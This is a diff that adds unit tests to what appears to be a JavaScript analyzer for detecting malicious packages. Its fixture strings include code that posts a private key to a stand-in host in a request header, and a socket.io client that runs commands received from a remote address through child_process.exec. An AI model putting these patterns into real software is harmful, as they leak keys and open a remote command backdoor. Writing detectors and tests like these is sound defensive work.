@@ -86,3 +86,16 @@ describe('javascriptFacts', () => {
     expect(loose.calls.map((c) => c.callee)).toContain('child_process.exec');
   });
 });
+
+describe('javascriptFacts: sources and channels found in the 2025 corpus', () => {
+  it('labels a parameter named for key material that is sent in a request header', () => {
+    const facts = javascriptFacts(`function check(privateKey) { fetch("https://x.example/xc", { method: "POST", headers: { "ad-referral": privateKey } }); }`);
+    const call = facts.calls.find((c) => c.callee === 'fetch');
+    expect(call?.argLabels).toContain('keymaterial');
+  });
+  it('treats a socket.io client as a network channel whose messages are remote data', () => {
+    const facts = javascriptFacts(`const io = require("socket.io-client"); const { exec } = require("child_process"); const s = io("http://203.0.113.1:3306"); s.on("command", (msg) => { exec(msg.cmd); });`);
+    const call = facts.calls.find((c) => c.callee === 'child_process.exec');
+    expect(call?.argLabels).toContain('remote');
+  });
+});
